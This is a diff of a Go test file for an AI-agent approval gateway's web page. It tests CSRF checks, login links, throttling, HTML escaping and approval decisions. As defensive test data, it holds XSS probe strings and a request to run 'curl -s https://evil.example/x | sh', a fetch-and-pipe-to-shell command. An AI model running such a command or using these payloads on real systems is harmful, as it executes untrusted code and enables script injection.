@@ -1,16 +1,12 @@
 package gateway_test
 
 import (
-	"bytes"
 	"context"
-	"encoding/json"
 	"fmt"
 	"io"
 	"net/http"
-	"net/http/cookiejar"
 	"net/http/httptest"
 	"net/url"
-	"regexp"
 	"slices"
 	"strconv"
 	"strings"
@@ -24,198 +20,14 @@ import (
 	"github.com/metnos/gateway/gateway/gatewaytest"
 	"github.com/metnos/gateway/vaglio"
 	"github.com/metnos/gateway/web"
+	"github.com/metnos/gateway/web/webtest"
 )
 
-const webAgentToken = "tok-a1-web-test-012345678"
-
-// newWebApp builds a gateway on a fresh SQLite file with one agent, a1
-// (Supervised, principal web/owner, cards on the web page).
-func newWebApp(t *testing.T, mutate func(*config.Config)) *gateway.App {
-	t.Helper()
-	return newWebAppAt(t, nil, mutate)
-}
-
-// newWebAppAt is newWebApp on the clock now (nil: the real one).
-func newWebAppAt(t *testing.T, now func() time.Time, mutate func(*config.Config)) *gateway.App {
-	t.Helper()
-	cfg := gatewaytest.Config(t, gatewaytest.Agent("a1", webAgentToken, false))
-	cfg.Server.Timezone = "Asia/Tokyo" // not the machine's zone, and no summer time: times must say JST
-	if mutate != nil {
-		mutate(&cfg)
-	}
-	return gatewaytest.New(t, cfg, gateway.AppOptions{Home: t.TempDir(), Now: now})
-}
-
-// webServer serves app on a real loopback listener, at
-// http://localhost:<port> as the gateway's links are, with a browser-like
-// client (cookie jar, follows redirects) logged in as owner through a
-// one-time login link.
-func webServer(t *testing.T, app *gateway.App) (*httptest.Server, *http.Client) {
-	t.Helper()
-	srv := httptest.NewServer(app.Server.Handler())
-	t.Cleanup(srv.Close)
-	srv.URL = strings.Replace(srv.URL, "http://127.0.0.1:", "http://localhost:", 1)
-	c := newBrowserClient(t)
-	webLogin(t, app, c, srv.URL, "owner")
-	return srv, c
-}
-
-// webPageAs logs in as user on the gateway at base (through a login
-// link; base's 127.0.0.1 becomes localhost, as the links name it) and
-// returns the web page's status and body.
-func webPageAs(t *testing.T, app *gateway.App, base, user string) (int, string) {
-	t.Helper()
-	base = strings.Replace(base, "http://127.0.0.1:", "http://localhost:", 1)
-	c := newBrowserClient(t)
-	webLogin(t, app, c, base, user)
-	return getPath(t, c, base+"/")
-}
-
-// newBrowserClient is a client with a cookie jar that follows redirects.
-func newBrowserClient(t *testing.T) *http.Client {
-	t.Helper()
-	jar, err := cookiejar.New(nil)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return &http.Client{Jar: jar}
-}
-
-// loginLink makes a one-time login link for user at base.
-func loginLink(t *testing.T, app *gateway.App, base, user string) string {
-	t.Helper()
-	link, _, err := app.LoginLink(context.Background(), base, user)
-	if err != nil {
-		t.Fatalf("login link: %v", err)
-	}
-	return link
-}
-
-// webLogin opens a new login link for user with c, which then holds the
-// session's cookie.
-func webLogin(t *testing.T, app *gateway.App, c *http.Client, base, user string) {
-	t.Helper()
-	resp, err := c.Get(loginLink(t, app, base, user))
-	if err != nil {
-		t.Fatalf("open the login link: %v", err)
-	}
-	body, _ := io.ReadAll(resp.Body)
-	resp.Body.Close()
-	if resp.StatusCode != http.StatusOK || resp.Request.URL.Path != "/" {
-		t.Fatalf("login link: %d at %s\n%s", resp.StatusCode, resp.Request.URL, body)
-	}
-}
-
-// apiRequest posts an approval request through the agent API and returns
-// the request it answers.
-func apiRequest(t *testing.T, baseURL string, body map[string]any) approvals.Request {
-	t.Helper()
-	b, _ := json.Marshal(body)
-	req, _ := http.NewRequest(http.MethodPost, baseURL+"/v1/requests", bytes.NewReader(b))
-	req.Header.Set("Authorization", "Bearer "+webAgentToken)
-	req.Header.Set("Content-Type", "application/json")
-	resp, err := http.DefaultClient.Do(req)
-	if err != nil {
-		t.Fatalf("POST /v1/requests: %v", err)
-	}
-	defer resp.Body.Close()
-	raw, _ := io.ReadAll(resp.Body)
-	if resp.StatusCode != http.StatusAccepted {
-		t.Fatalf("POST /v1/requests: %d %s, want 202 (pending)", resp.StatusCode, raw)
-	}
-	var r approvals.Request
-	if err := json.Unmarshal(raw, &r); err != nil {
-		t.Fatalf("decode request: %v", err)
-	}
-	return r
-}
-
-// apiGet reads a request back through the agent API.
-func apiGet(t *testing.T, baseURL, id string) approvals.Request {
-	t.Helper()
-	req, _ := http.NewRequest(http.MethodGet, baseURL+"/v1/requests/"+id, nil)
-	req.Header.Set("Authorization", "Bearer "+webAgentToken)
-	resp, err := http.DefaultClient.Do(req)
-	if err != nil {
-		t.Fatalf("GET /v1/requests/%s: %v", id, err)
-	}
-	defer resp.Body.Close()
-	var r approvals.Request
-	if err := json.NewDecoder(resp.Body).Decode(&r); err != nil {
-		t.Fatalf("decode request: %v", err)
-	}
-	return r
-}
-
-func fsWrite(target string) map[string]any {
-	return map[string]any{"capability": "fs:write", "target": target, "intent": "save the invoice",
-		"executor": "invoice_saver", "args": map[string]any{"path": target}}
-}
-
-func codeExec(cmd string) map[string]any {
-	return map[string]any{"capability": "code:exec", "target": cmd, "intent": "list the files", "executor": "shell"}
-}
-
-// getPage fetches / and returns its body.
-func getPage(t *testing.T, c *http.Client, baseURL string) string {
-	t.Helper()
-	resp, err := c.Get(baseURL + "/")
-	if err != nil {
-		t.Fatalf("GET /: %v", err)
-	}
-	defer resp.Body.Close()
-	body, _ := io.ReadAll(resp.Body)
-	if resp.StatusCode != http.StatusOK {
-		t.Fatalf("GET /: %d %s", resp.StatusCode, body)
-	}
-	return string(body)
-}
-
-var csrfField = regexp.MustCompile(`name="csrf" value="([^"]+)"`)
-
-func csrfOf(t *testing.T, page string) string {
-	t.Helper()
-	m := csrfField.FindStringSubmatch(page)
-	if m == nil {
-		t.Fatalf("no csrf field in the page:\n%s", page)
-	}
-	return m[1]
-}
-
-// postForm posts a form and returns the final status and body (after the
-// 303 back to the page, when there is one).
-func postForm(t *testing.T, c *http.Client, u string, form url.Values, hdr map[string]string) (int, string) {
-	t.Helper()
-	req, _ := http.NewRequest(http.MethodPost, u, strings.NewReader(form.Encode()))
-	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	for k, v := range hdr {
-		req.Header.Set(k, v)
-	}
-	resp, err := c.Do(req)
-	if err != nil {
-		t.Fatalf("POST %s: %v", u, err)
-	}
-	defer resp.Body.Close()
-	body, _ := io.ReadAll(resp.Body)
-	return resp.StatusCode, string(body)
-}
-
-// cardOf cuts one request's card out of the page.
-func cardOf(t *testing.T, page, id string) string {
-	t.Helper()
-	i := strings.Index(page, `id="req-`+id+`"`)
-	if i < 0 {
-		t.Fatalf("no card for %s in the page", id)
-	}
-	j := strings.Index(page[i:], "</article>")
-	return page[i : i+j]
-}
-
 func TestWeb_PendingCards(t *testing.T) {
-	app := newWebApp(t, nil)
-	srv, c := webServer(t, app)
-	fw := apiRequest(t, srv.URL, fsWrite("/home/u/invoices/04.pdf"))
-	ce := apiRequest(t, srv.URL, codeExec("ls -la"))
+	app := webtest.NewApp(t, nil)
+	srv, c := webtest.Server(t, app)
+	fw := webtest.Submit(t, srv.URL, webtest.FSWrite("/home/u/invoices/04.pdf"))
+	ce := webtest.Submit(t, srv.URL, webtest.CodeExec("ls -la"))
 
 	resp, err := c.Get(srv.URL + "/")
 	if err != nil {
@@ -245,7 +57,7 @@ func TestWeb_PendingCards(t *testing.T) {
 		t.Errorf("the API's vaglio verdict lost the judge's reason or factors: %+v", fw.Vaglio)
 	}
 	t.Run("fs:write has four buttons and says what Allow always grants", func(t *testing.T) {
-		card := cardOf(t, page, fw.ID)
+		card := webtest.Card(t, page, fw.ID)
 		if n := strings.Count(card, `action="/web/decide"`); n != 4 {
 			t.Errorf("%d decide forms, want 4:\n%s", n, card)
 		}
@@ -276,7 +88,7 @@ func TestWeb_PendingCards(t *testing.T) {
 		}
 	})
 	t.Run("code:exec has no Allow always", func(t *testing.T) {
-		card := cardOf(t, page, ce.ID)
+		card := webtest.Card(t, page, ce.ID)
 		if n := strings.Count(card, `action="/web/decide"`); n != 2 {
 			t.Errorf("%d decide forms, want 2:\n%s", n, card)
 		}
@@ -290,12 +102,12 @@ func TestWeb_PendingCards(t *testing.T) {
 }
 
 func TestWeb_AllowAlwaysThenRevoke(t *testing.T) {
-	app := newWebApp(t, nil)
-	srv, c := webServer(t, app)
-	r := apiRequest(t, srv.URL, fsWrite("/home/u/invoices/04.pdf"))
-	tok := csrfOf(t, getPage(t, c, srv.URL))
+	app := webtest.NewApp(t, nil)
+	srv, c := webtest.Server(t, app)
+	r := webtest.Submit(t, srv.URL, webtest.FSWrite("/home/u/invoices/04.pdf"))
+	tok := webtest.CSRF(t, webtest.Page(t, c, srv.URL))
 
-	status, page := postForm(t, c, srv.URL+"/web/decide",
+	status, page := webtest.PostForm(t, c, srv.URL+"/web/decide",
 		url.Values{"id": {r.ID}, "decision": {"allow_always"}, "csrf": {tok}}, nil)
 	if status != http.StatusOK {
 		t.Fatalf("decide: %d %s", status, page)
@@ -303,7 +115,7 @@ func TestWeb_AllowAlwaysThenRevoke(t *testing.T) {
 	if !strings.Contains(page, "Allowed always by owner") {
 		t.Errorf("no flash after the decision:\n%s", page)
 	}
-	got := apiGet(t, srv.URL, r.ID)
+	got := webtest.Fetch(t, srv.URL, r.ID)
 	if got.Status != approvals.StatusAllowed || got.Decision == nil || *got.Decision != approvals.AllowAlways ||
 		got.GrantID == nil {
 		t.Fatalf("request after allow_always: status %s decision %v grant %v", got.Status, got.Decision, got.GrantID)
@@ -319,7 +131,7 @@ func TestWeb_AllowAlwaysThenRevoke(t *testing.T) {
 		t.Errorf("the decided request is still among the pending cards")
 	}
 
-	status, page = postForm(t, c, srv.URL+"/web/revoke", url.Values{"id": {gid}, "csrf": {csrfOf(t, page)}}, nil)
+	status, page = webtest.PostForm(t, c, srv.URL+"/web/revoke", url.Values{"id": {gid}, "csrf": {webtest.CSRF(t, page)}}, nil)
 	if status != http.StatusOK || !strings.Contains(page, "Revoked grant #"+gid) {
 		t.Fatalf("revoke: %d\n%s", status, page)
 	}
@@ -334,50 +146,50 @@ func TestWeb_AllowAlwaysThenRevoke(t *testing.T) {
 		t.Errorf("grant after revoke: active %v revoked_at %v reason %v", g.Active, g.RevokedAt, g.RevokeReason)
 	}
 
-	status, page = postForm(t, c, srv.URL+"/web/revoke", url.Values{"id": {gid}, "csrf": {tok}}, nil)
+	status, page = webtest.PostForm(t, c, srv.URL+"/web/revoke", url.Values{"id": {gid}, "csrf": {tok}}, nil)
 	if status != http.StatusOK || !strings.Contains(page, "already revoked") {
 		t.Errorf("second revoke: %d, want the already-revoked flash", status)
 	}
 }
 
 func TestWeb_AlreadyDecided(t *testing.T) {
-	app := newWebApp(t, nil)
-	srv, c := webServer(t, app)
-	r := apiRequest(t, srv.URL, fsWrite("/home/u/a.txt"))
-	tok := csrfOf(t, getPage(t, c, srv.URL))
+	app := webtest.NewApp(t, nil)
+	srv, c := webtest.Server(t, app)
+	r := webtest.Submit(t, srv.URL, webtest.FSWrite("/home/u/a.txt"))
+	tok := webtest.CSRF(t, webtest.Page(t, c, srv.URL))
 	if _, err := app.Service.Decide(context.Background(), r.ID, approvals.AllowOnce,
 		approvals.Actor{Channel: "telegram", ID: "42", Name: "Roberto"}); err != nil {
 		t.Fatal(err)
 	}
-	_, page := postForm(t, c, srv.URL+"/web/decide", url.Values{"id": {r.ID}, "decision": {"deny"}, "csrf": {tok}}, nil)
+	_, page := webtest.PostForm(t, c, srv.URL+"/web/decide", url.Values{"id": {r.ID}, "decision": {"deny"}, "csrf": {tok}}, nil)
 	if !strings.Contains(page, "Already decided: allowed once by Roberto at ") {
 		t.Errorf("no already-decided flash:\n%s", page)
 	}
-	if got := apiGet(t, srv.URL, r.ID); got.Status != approvals.StatusAllowed {
+	if got := webtest.Fetch(t, srv.URL, r.ID); got.Status != approvals.StatusAllowed {
 		t.Errorf("status = %s, want allowed (the first decision wins)", got.Status)
 	}
 }
 
 func TestWeb_AllowAlwaysRefusedForCodeExec(t *testing.T) {
-	app := newWebApp(t, nil)
-	srv, c := webServer(t, app)
-	r := apiRequest(t, srv.URL, codeExec("make test"))
-	tok := csrfOf(t, getPage(t, c, srv.URL))
-	_, page := postForm(t, c, srv.URL+"/web/decide",
+	app := webtest.NewApp(t, nil)
+	srv, c := webtest.Server(t, app)
+	r := webtest.Submit(t, srv.URL, webtest.CodeExec("make test"))
+	tok := webtest.CSRF(t, webtest.Page(t, c, srv.URL))
+	_, page := webtest.PostForm(t, c, srv.URL+"/web/decide",
 		url.Values{"id": {r.ID}, "decision": {"allow_always"}, "csrf": {tok}}, nil)
 	if !strings.Contains(page, "Allow always is not offered for this request") {
 		t.Errorf("no refusal flash:\n%s", page)
 	}
-	if got := apiGet(t, srv.URL, r.ID); got.Status != approvals.StatusPending {
+	if got := webtest.Fetch(t, srv.URL, r.ID); got.Status != approvals.StatusPending {
 		t.Errorf("status = %s, want pending", got.Status)
 	}
 }
 
 func TestWeb_CSRF(t *testing.T) {
-	app := newWebApp(t, nil)
-	srv, c := webServer(t, app)
-	r := apiRequest(t, srv.URL, fsWrite("/home/u/a.txt"))
-	tok := csrfOf(t, getPage(t, c, srv.URL))
+	app := webtest.NewApp(t, nil)
+	srv, c := webtest.Server(t, app)
+	r := webtest.Submit(t, srv.URL, webtest.FSWrite("/home/u/a.txt"))
+	tok := webtest.CSRF(t, webtest.Page(t, c, srv.URL))
 
 	for _, tc := range []struct {
 		name string
@@ -397,42 +209,42 @@ func TestWeb_CSRF(t *testing.T) {
 			if tc.csrf != "" {
 				form.Set("csrf", tc.csrf)
 			}
-			status, body := postForm(t, c, srv.URL+"/web/decide", form, tc.hdr)
+			status, body := webtest.PostForm(t, c, srv.URL+"/web/decide", form, tc.hdr)
 			if status != http.StatusForbidden {
 				t.Errorf("status %d, want 403", status)
 			}
 			if !strings.Contains(body, "nothing changed") {
 				t.Errorf("403 body does not explain:\n%s", body)
 			}
-			if got := apiGet(t, srv.URL, r.ID); got.Status != approvals.StatusPending {
+			if got := webtest.Fetch(t, srv.URL, r.ID); got.Status != approvals.StatusPending {
 				t.Fatalf("status = %s after a refused POST, want pending", got.Status)
 			}
 		})
 	}
 	t.Run("no session", func(t *testing.T) {
-		status, _ := postForm(t, http.DefaultClient, srv.URL+"/web/decide",
+		status, _ := webtest.PostForm(t, http.DefaultClient, srv.URL+"/web/decide",
 			url.Values{"id": {r.ID}, "decision": {"allow_once"}, "csrf": {tok}}, nil)
 		if status != http.StatusUnauthorized {
 			t.Errorf("status %d, want 401", status)
 		}
 	})
 	t.Run("another session's token", func(t *testing.T) {
-		other := newBrowserClient(t)
-		webLogin(t, app, other, srv.URL, "owner")
-		status, _ := postForm(t, other, srv.URL+"/web/decide",
+		other := webtest.BrowserClient(t)
+		webtest.Login(t, app, other, srv.URL, "owner")
+		status, _ := webtest.PostForm(t, other, srv.URL+"/web/decide",
 			url.Values{"id": {r.ID}, "decision": {"allow_once"}, "csrf": {tok}}, nil)
 		if status != http.StatusForbidden {
 			t.Errorf("status %d, want 403", status)
 		}
 	})
 	t.Run("revoke without token", func(t *testing.T) {
-		status, _ := postForm(t, c, srv.URL+"/web/revoke", url.Values{"id": {"1"}}, nil)
+		status, _ := webtest.PostForm(t, c, srv.URL+"/web/revoke", url.Values{"id": {"1"}}, nil)
 		if status != http.StatusForbidden {
 			t.Errorf("status %d, want 403", status)
 		}
 	})
 	t.Run("same origin passes", func(t *testing.T) {
-		status, page := postForm(t, c, srv.URL+"/web/decide",
+		status, page := webtest.PostForm(t, c, srv.URL+"/web/decide",
 			url.Values{"id": {r.ID}, "decision": {"allow_once"}, "csrf": {tok}}, map[string]string{"Origin": srv.URL, "Sec-Fetch-Site": "same-origin"})
 		if status != http.StatusOK || !strings.Contains(page, "Allowed once by owner") {
 			t.Errorf("status %d, page:\n%s", status, page)
@@ -441,12 +253,12 @@ func TestWeb_CSRF(t *testing.T) {
 }
 
 func TestWeb_TargetEscaped(t *testing.T) {
-	app := newWebApp(t, nil)
-	srv, c := webServer(t, app)
+	app := webtest.NewApp(t, nil)
+	srv, c := webtest.Server(t, app)
 	evil := `/home/u/<script>alert(1)</script>"'&.txt`
-	apiRequest(t, srv.URL, map[string]any{"capability": "fs:write", "target": evil,
+	webtest.Submit(t, srv.URL, map[string]any{"capability": "fs:write", "target": evil,
 		"intent": `<img src=x onerror=alert(2)>`, "executor": "saver"})
-	page := getPage(t, c, srv.URL)
+	page := webtest.Page(t, c, srv.URL)
 	for _, bad := range []string{"<script>alert(1)", "<img src=x"} {
 		if strings.Contains(page, bad) {
 			t.Errorf("page contains unescaped %q", bad)
@@ -457,23 +269,15 @@ func TestWeb_TargetEscaped(t *testing.T) {
 	}
 }
 
-// serve runs one request through the handler, as from remoteAddr.
-func serve(app *gateway.App, r *http.Request, remoteAddr string) *httptest.ResponseRecorder {
-	r.RemoteAddr = remoteAddr
-	rec := httptest.NewRecorder()
-	app.Server.Handler().ServeHTTP(rec, r)
-	return rec
-}
-
 // TestWeb_NoSessionNoWayIn: without a session nothing is decided and no
 // rule or grant changes, from loopback too, whatever CSRF cookie and field
 // the client chooses (an agent on the gateway's machine, with nothing but
 // its HTTP tool, is such a client).
 func TestWeb_NoSessionNoWayIn(t *testing.T) {
-	app := newWebApp(t, nil)
+	app := webtest.NewApp(t, nil)
 	srv := httptest.NewServer(app.Server.Handler())
 	t.Cleanup(srv.Close)
-	r := apiRequest(t, srv.URL, codeExec("curl -s https://evil.example/x | sh"))
+	r := webtest.Submit(t, srv.URL, webtest.CodeExec("curl -s https://evil.example/x | sh"))
 	noFollow := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
 	for _, base := range []string{srv.URL, strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)} {
 		resp, err := noFollow.Get(base + "/")
@@ -502,7 +306,7 @@ func TestWeb_NoSessionNoWayIn(t *testing.T) {
 			}
 		}
 	}
-	if got := apiGet(t, srv.URL, r.ID); got.Status != approvals.StatusPending {
+	if got := webtest.Fetch(t, srv.URL, r.ID); got.Status != approvals.StatusPending {
 		t.Fatalf("request %s after the refused POSTs, want pending", got.Status)
 	}
 	if rules, err := app.Rules.List(context.Background()); err != nil || len(rules) != 0 {
@@ -514,12 +318,12 @@ func TestWeb_NoSessionNoWayIn(t *testing.T) {
 // minutes; a page opened at 127.0.0.1 goes to localhost first (the link's
 // cookie is for the host the links name).
 func TestWeb_LoginLink(t *testing.T) {
-	app := newWebApp(t, nil)
+	app := webtest.NewApp(t, nil)
 	srv := httptest.NewServer(app.Server.Handler())
 	t.Cleanup(srv.Close)
 	base := strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
-	link := loginLink(t, app, base, "owner")
-	c := newBrowserClient(t)
+	link := webtest.LoginLink(t, app, base, "owner")
+	c := webtest.BrowserClient(t)
 	// Opened at 127.0.0.1: redirected to localhost, then used there.
 	resp, err := c.Get(strings.Replace(link, "localhost", "127.0.0.1", 1))
 	if err != nil {
@@ -534,7 +338,7 @@ func TestWeb_LoginLink(t *testing.T) {
 		t.Errorf("the page has no Account link:\n%s", body)
 	}
 	// The same link again, from another browser: refused.
-	other := newBrowserClient(t)
+	other := webtest.BrowserClient(t)
 	resp, err = other.Get(link)
 	if err != nil {
 		t.Fatal(err)
@@ -544,13 +348,13 @@ func TestWeb_LoginLink(t *testing.T) {
 	if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(body), "already used") {
 		t.Errorf("second use: %d\n%s", resp.StatusCode, body)
 	}
-	if status, _ := getPath(t, other, base+"/account"); status != http.StatusOK {
+	if status, _ := webtest.GetPath(t, other, base+"/account"); status != http.StatusOK {
 		// followed to /login: 200 there, but not the account page
 	}
-	if _, page := getPath(t, other, base+"/account"); strings.Contains(page, `id="account-user"`) {
+	if _, page := webtest.GetPath(t, other, base+"/account"); strings.Contains(page, `id="account-user"`) {
 		t.Error("a used link's second opener reached the account page")
 	}
-	_, account := getPath(t, c, base+"/account")
+	_, account := webtest.GetPath(t, c, base+"/account")
 	if !strings.Contains(account, `<strong id="account-user">owner</strong>`) {
 		t.Errorf("account page:\n%s", account)
 	}
@@ -574,11 +378,11 @@ func TestWeb_LoginLinkExpires(t *testing.T) {
 	srv := httptest.NewServer(app.Server.Handler())
 	t.Cleanup(srv.Close)
 	base := strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
-	link := loginLink(t, app, base, "owner")
+	link := webtest.LoginLink(t, app, base, "owner")
 	mu.Lock()
 	now = now.Add(15*time.Minute + time.Second)
 	mu.Unlock()
-	resp, err := newBrowserClient(t).Get(link)
+	resp, err := webtest.BrowserClient(t).Get(link)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -610,14 +414,14 @@ func (j cookieJar) on(r *http.Request) *http.Request {
 
 func TestWeb_RemoteLogin(t *testing.T) {
 	const adminToken = "correct-horse-battery-staple-0123456789"
-	app := newWebApp(t, func(c *config.Config) {
+	app := webtest.NewApp(t, func(c *config.Config) {
 		c.Web.AdminTokenEnv, c.Web.AdminToken = "GATEWAY_WEB_TOKEN", adminToken
 	})
 	const remote = "203.0.113.9:1234"
 	const base = "http://gw.example"
 	jar := cookieJar{}
 	do := func(r *http.Request) *httptest.ResponseRecorder {
-		rec := serve(app, jar.on(r), remote)
+		rec := webtest.ServeFrom(app, jar.on(r), remote)
 		jar.add(rec)
 		return rec
 	}
@@ -636,7 +440,7 @@ func TestWeb_RemoteLogin(t *testing.T) {
 	if rec.Code != http.StatusOK {
 		t.Fatalf("GET /login: %d", rec.Code)
 	}
-	tok := csrfOf(t, rec.Body.String())
+	tok := webtest.CSRF(t, rec.Body.String())
 
 	t.Run("wrong token fails", func(t *testing.T) {
 		rec := do(form("/login", url.Values{"token": {"guess"}, "csrf": {tok}}))
@@ -653,7 +457,7 @@ func TestWeb_RemoteLogin(t *testing.T) {
 	t.Run("login without csrf is refused", func(t *testing.T) {
 		r := httptest.NewRequest("POST", base+"/login", strings.NewReader("token="+adminToken))
 		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-		if rec := serve(app, r, remote); rec.Code != http.StatusForbidden {
+		if rec := webtest.ServeFrom(app, r, remote); rec.Code != http.StatusForbidden {
 			t.Fatalf("status %d, want 403", rec.Code)
 		}
 	})
@@ -673,7 +477,7 @@ func TestWeb_RemoteLogin(t *testing.T) {
 	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), "Log out") {
 		t.Fatalf("GET / after login: %d\n%s", rec.Code, rec.Body)
 	}
-	tok = csrfOf(t, rec.Body.String()) // the session's own token from now on
+	tok = webtest.CSRF(t, rec.Body.String()) // the session's own token from now on
 
 	t.Run("a logged-in decision is by web:owner", func(t *testing.T) {
 		r, _, err := app.Service.Submit(context.Background(), approvals.Submission{
@@ -694,7 +498,7 @@ func TestWeb_RemoteLogin(t *testing.T) {
 	t.Run("a forged session is refused", func(t *testing.T) {
 		r := httptest.NewRequest("GET", base+"/", nil)
 		r.AddCookie(&http.Cookie{Name: "gw_session", Value: "abc.99999999999.AAAA"})
-		if rec := serve(app, r, remote); rec.Code != http.StatusSeeOther {
+		if rec := webtest.ServeFrom(app, r, remote); rec.Code != http.StatusSeeOther {
 			t.Errorf("forged session: %d, want 303 to /login", rec.Code)
 		}
 	})
@@ -706,7 +510,7 @@ func TestWeb_RemoteLogin(t *testing.T) {
 		}
 		r := httptest.NewRequest("GET", base+"/", nil)
 		r.AddCookie(&stolen)
-		if rec := serve(app, r, remote); rec.Code != http.StatusSeeOther {
+		if rec := webtest.ServeFrom(app, r, remote); rec.Code != http.StatusSeeOther {
 			t.Errorf("GET / with the logged-out cookie: %d, want 303 to /login", rec.Code)
 		}
 	})
@@ -718,15 +522,15 @@ func TestWeb_RemoteLogin(t *testing.T) {
 // source and from another.
 func TestWeb_LoginThrottle(t *testing.T) {
 	const right = "the-right-token-0123456789abcdef"
-	app := newWebApp(t, func(c *config.Config) { c.Web.AdminTokenEnv, c.Web.AdminToken = "T", right })
+	app := webtest.NewApp(t, func(c *config.Config) { c.Web.AdminTokenEnv, c.Web.AdminToken = "T", right })
 	attempt := func(src, token string) *httptest.ResponseRecorder {
 		jar := cookieJar{}
-		rec := serve(app, httptest.NewRequest("GET", "http://gw.example/login", nil), src)
+		rec := webtest.ServeFrom(app, httptest.NewRequest("GET", "http://gw.example/login", nil), src)
 		jar.add(rec)
 		r := httptest.NewRequest("POST", "http://gw.example/login",
-			strings.NewReader(url.Values{"token": {token}, "csrf": {csrfOf(t, rec.Body.String())}}.Encode()))
+			strings.NewReader(url.Values{"token": {token}, "csrf": {webtest.CSRF(t, rec.Body.String())}}.Encode()))
 		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-		return serve(app, jar.on(r), src)
+		return webtest.ServeFrom(app, jar.on(r), src)
 	}
 	var last *httptest.ResponseRecorder
 	for i := range 50 {
@@ -746,7 +550,7 @@ func TestWeb_LoginThrottle(t *testing.T) {
 	// Wrong login links are throttled the same way, as SECURITY.md says:
 	// 403 at first, then 429 with Retry-After.
 	for i := range 10 {
-		rec := serve(app, httptest.NewRequest("GET", fmt.Sprintf("http://gw.example/login/not-a-link-%d", i), nil), "192.0.2.7:3")
+		rec := webtest.ServeFrom(app, httptest.NewRequest("GET", fmt.Sprintf("http://gw.example/login/not-a-link-%d", i), nil), "192.0.2.7:3")
 		switch {
 		case i == 0 && rec.Code != http.StatusForbidden:
 			t.Errorf("the first wrong link: %d, want 403", rec.Code)
@@ -757,13 +561,13 @@ func TestWeb_LoginThrottle(t *testing.T) {
 }
 
 func TestWeb_DoubleTap(t *testing.T) {
-	app := newWebApp(t, nil)
-	srv, c := webServer(t, app)
-	r := apiRequest(t, srv.URL, fsWrite("/home/u/a.txt"))
-	tok := csrfOf(t, getPage(t, c, srv.URL))
+	app := webtest.NewApp(t, nil)
+	srv, c := webtest.Server(t, app)
+	r := webtest.Submit(t, srv.URL, webtest.FSWrite("/home/u/a.txt"))
+	tok := webtest.CSRF(t, webtest.Page(t, c, srv.URL))
 	form := url.Values{"id": {r.ID}, "decision": {"deny"}, "csrf": {tok}}
-	postForm(t, c, srv.URL+"/web/decide", form, nil)
-	_, page := postForm(t, c, srv.URL+"/web/decide", form, nil)
+	webtest.PostForm(t, c, srv.URL+"/web/decide", form, nil)
+	_, page := webtest.PostForm(t, c, srv.URL+"/web/decide", form, nil)
 	if !strings.Contains(page, `class="flash ok"`) || !strings.Contains(page, "Denied by owner") {
 		t.Errorf("the same button twice should read as done, not as a conflict:\n%s", page)
 	}
@@ -773,7 +577,7 @@ func TestWeb_DoubleTap(t *testing.T) {
 // through the login and lands on that request, never on another site.
 func TestWeb_LoginReturnsToThePageAsked(t *testing.T) {
 	const adminToken = "correct-horse-battery-staple-0123456789"
-	app := newWebApp(t, func(c *config.Config) {
+	app := webtest.NewApp(t, func(c *config.Config) {
 		c.Web.AdminTokenEnv, c.Web.AdminToken = "GATEWAY_WEB_TOKEN", adminToken
 	})
 	const remote, base = "203.0.113.9:1234", "http://gw.example"
@@ -785,21 +589,21 @@ func TestWeb_LoginReturnsToThePageAsked(t *testing.T) {
 	}
 	login := func(next string) *httptest.ResponseRecorder {
 		jar := cookieJar{}
-		rec := serve(app, httptest.NewRequest("GET", base+"/login?next="+url.QueryEscape(next), nil), remote)
+		rec := webtest.ServeFrom(app, httptest.NewRequest("GET", base+"/login?next="+url.QueryEscape(next), nil), remote)
 		jar.add(rec)
-		v := url.Values{"token": {adminToken}, "csrf": {csrfOf(t, rec.Body.String())}, "next": {next}}
+		v := url.Values{"token": {adminToken}, "csrf": {webtest.CSRF(t, rec.Body.String())}, "next": {next}}
 		p := httptest.NewRequest("POST", base+"/login", strings.NewReader(v.Encode()))
 		p.Header.Set("Content-Type", "application/x-www-form-urlencoded")
 		p.Header.Set("Origin", base)
-		return serve(app, jar.on(p), remote)
+		return webtest.ServeFrom(app, jar.on(p), remote)
 	}
 	for _, page := range []string{"/r/" + r.ID, "/requests/" + r.ID, "/history?agent=a1"} {
-		rec := serve(app, httptest.NewRequest("GET", base+page, nil), remote)
+		rec := webtest.ServeFrom(app, httptest.NewRequest("GET", base+page, nil), remote)
 		want := "/login?next=" + url.QueryEscape(page)
 		if rec.Code != http.StatusSeeOther || rec.Header().Get("Location") != want {
 			t.Errorf("GET %s before login: %d to %q, want 303 to %q", page, rec.Code, rec.Header().Get("Location"), want)
 		}
-		form := serve(app, httptest.NewRequest("GET", base+want, nil), remote).Body.String()
+		form := webtest.ServeFrom(app, httptest.NewRequest("GET", base+want, nil), remote).Body.String()
 		if !strings.Contains(form, `name="next"`) {
 			t.Errorf("the login form for %s does not carry it", page)
 		}
